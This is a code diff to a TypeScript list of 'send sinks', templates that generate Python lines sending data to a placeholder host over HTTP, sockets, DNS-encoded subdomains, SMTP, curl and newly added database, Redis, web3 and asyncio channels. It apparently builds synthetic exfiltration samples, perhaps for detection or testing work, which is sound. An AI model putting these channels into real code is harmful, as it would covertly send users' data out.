@@ -67,6 +67,11 @@ export const sendSinks: readonly Sink[] = [
   { id: 'http.client', target: { module: 'http.client', name: 'HTTPSConnection' }, take: (callee, data) => `${callee}('${HOST}').request('POST', '/', ${data})` },
   { id: 'socket', target: { module: 'socket', name: 'create_connection' }, take: (callee, data) => `${callee}(('${HOST}', 443)).sendall(${data}.encode())` },
   { id: 'dns', target: { module: 'socket', name: 'gethostbyname' }, take: (callee, data) => `${callee}(${data}.encode().hex()[:60] + '.${HOST}')` },
+  { id: 'psycopg2', target: { module: 'psycopg2', name: 'connect' }, take: (callee, data) => `${callee}('postgres://${HOST}/x').cursor().execute('insert into beds values (%s)', (${data},))` },
+  { id: 'pymongo', target: { module: 'pymongo', name: 'MongoClient' }, take: (callee, data) => `${callee}('mongodb://${HOST}')['bed']['leaves'].insert_one({'leaf': ${data}})` },
+  { id: 'redis', target: { module: 'redis', name: 'Redis' }, take: (callee, data) => `${callee}('${HOST}').publish('bed', ${data})` },
+  { id: 'web3', target: { module: 'web3', name: 'Web3' }, take: (callee, data) => `${callee}('https://${HOST}').eth.send_transaction({'value': 0, 'data': ${data}.encode()})` },
+  { id: 'stream', target: { module: 'asyncio', name: 'open_connection' }, lines: ['import asyncio'], take: (callee, data) => `async def send():\n    reader, writer = await ${callee}('${HOST}', 443)\n    writer.write(${data}.encode())\nasyncio.run(send())` },
   { id: 'smtp', target: { module: 'smtplib', name: 'SMTP' }, take: (callee, data) => `${callee}('${HOST}').sendmail('a@${HOST}', 'b@${HOST}', ${data})` },
   { id: 'curl', target: { module: 'subprocess', name: 'run' }, take: (callee, data) => `${callee}(['curl', '-d', ${data}, 'https://${HOST}/'])` },
 ];
